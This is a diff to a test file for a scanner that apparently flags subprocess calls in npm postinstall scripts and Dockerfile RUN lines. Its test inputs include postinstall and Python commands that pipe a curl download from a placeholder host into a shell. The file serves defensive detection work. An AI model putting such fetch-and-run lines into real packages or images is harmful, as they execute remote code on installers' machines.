@@ -53,7 +53,8 @@ test('a shell command line written in inline code is read as the command rows re
   assert.equal(scripts({ postinstall: "node -e \"require('child_process').execSync('curl ' + u + ' | sh')\"" }), [execSync]);
   assert.equal(scripts({ postinstall: "node -e 'require(\"child_process\").execSync(`curl ${u} | sh`)'" }), [execSync]);
   assert.equal(scripts({ postinstall: "node -e \"require('child_process').execSync('npm run build')\"" }), [execSync]);
-  assert.equal(scripts({ postinstall: "node -e \"require('child_process').spawnSync('curl', ['-fsSL', 'https://x.test/i'])\"" }), ['subprocess.child-process child_process.spawnSync']);
+  // An argument list built at run time (a written list is read since scanner24, test/scan/scanner24-commands.test.ts).
+  assert.equal(scripts({ postinstall: "node -e \"require('child_process').spawnSync('curl', args)\"" }), ['subprocess.child-process child_process.spawnSync']);
   assert.equal(docker("FROM python:3.12\nRUN python3 -c \"import subprocess; subprocess.run('curl https://x.test/i')\"\n"), ['subprocess.python-subprocess subprocess.run']);
   assert.equal(docker("FROM python:3.12\nRUN python3 -c \"import os; os.system(f'curl {u} | sh')\"\n"), ['subprocess.python-os-exec os.system']);
   // A string that is only mentioned is no command line.
